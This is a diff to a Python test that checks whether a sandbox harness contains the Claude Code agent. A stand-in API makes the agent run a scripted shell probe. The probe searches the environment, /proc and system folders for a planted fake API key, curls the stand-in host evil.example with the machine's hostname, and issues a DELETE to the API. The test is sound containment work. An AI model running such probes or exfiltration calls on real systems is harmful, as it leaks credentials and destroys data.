@@ -10,24 +10,31 @@ import unittest
 
 from harness import ROOT, SANITIZED, WeirTest, also_as_ordinary_user, main
 from standins.messages_api import MessagesApi
-from standins.server import echo
 
 CLAUDE = os.environ.get("WEIR_CLAUDE", os.path.join(ROOT, "build/tools/claude/node_modules/.bin/claude"))
 KEY = "sk-ant-api03-REAL-4e1c7b90d2f64a55b7c8-the-real-key-AA"
 
-# The key is put together at run time, so that the command itself and the conversation do not hold it.
+# The key is put together at run time, so that the command itself and the conversation do not hold it, and handed to
+# grep by a descriptor, so that grep's own command line does not.
 LOOK = """
 a=sk-ant-api03-REAL-4e1c7b90; b=d2f64a55b7c8-the-real-key-AA; key=$a$b
 echo LOOKING as $(id -u)
-env | grep -c -F -- "$key" | sed 's/^/environment: /'
-cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -a -c -F -- "$key" | sed 's/^/processes: /'
-grep -r -l -a -F -s -- "$key" /etc /run /tmp "$HOME" . 2>/dev/null | wc -l | sed 's/^/files: /'
+env | grep -c -F -f /dev/fd/3 3<<<"$key" | sed 's/^/environment: /'
+cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -a -c -F -f /dev/fd/3 3<<<"$key" | sed 's/^/processes: /'
+grep -r -l -a -F -s -f /dev/fd/3 /etc /run /tmp "$HOME" . 3<<<"$key" 2>/dev/null | wc -l | sed 's/^/files: /'
+K=$key env | grep -c -F -f /dev/fd/3 3<<<"$key" | sed 's/^/search that must find: /'
 echo "placeholder: $ANTHROPIC_API_KEY"
 curl -sS -o /dev/null -w 'denied host: %{http_code}\\n' https://evil.example/?d=$(hostname) 2>&1
 curl -sS -o /dev/null -w 'denied path: %{http_code}\\n' -X DELETE https://api.anthropic.com/v1/files/1 2>&1
 echo written > made-by-claude.txt
 echo LOOKED
 """
+
+
+def nothing_else(request, connection):
+    """What is not the Messages API: there, as a HEAD / wants to know, and with nothing to say."""
+    connection.read_body(request, lambda _: None)
+    connection.send(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
 
 
 @unittest.skipUnless(os.access(CLAUDE, os.X_OK), f"Claude Code is not at {CLAUDE}")
@@ -38,7 +45,7 @@ class ClaudeCode(WeirTest):
         if self.user and not self.readable_by_others(os.path.realpath(CLAUDE)):
             self.skipTest("the ordinary user cannot read Claude Code where it is installed")
         self.api = MessagesApi(KEY, LOOK)
-        self.server = self.https("api.anthropic.com", routes={"/": echo, "/v1/messages": self.api,
+        self.server = self.https("api.anthropic.com", routes={"/": nothing_else, "/v1/messages": self.api,
                                                               "/v1/messages/count_tokens": self.api})
         self.environment["ANTHROPIC_API_KEY"] = KEY
         self.environment["PATH"] = os.path.dirname(CLAUDE) + ":" + self.environment["PATH"]
@@ -60,7 +67,7 @@ class ClaudeCode(WeirTest):
     def check(self, done):
         self.assertTrue(self.api.results, f"the command was not run\n{done}")
         result = self.api.results[-1]
-        for line in ("environment: 0", "processes: 0", "files: 0", "LOOKED"):
+        for line in ("environment: 0", "processes: 0", "files: 0", "search that must find: 1", "LOOKED"):
             self.assertIn(line, result.splitlines(), f"{result}\n{done}")
         self.assertNotIn("LOOKING as 0", result.splitlines())
         self.assertNotIn(KEY, result)
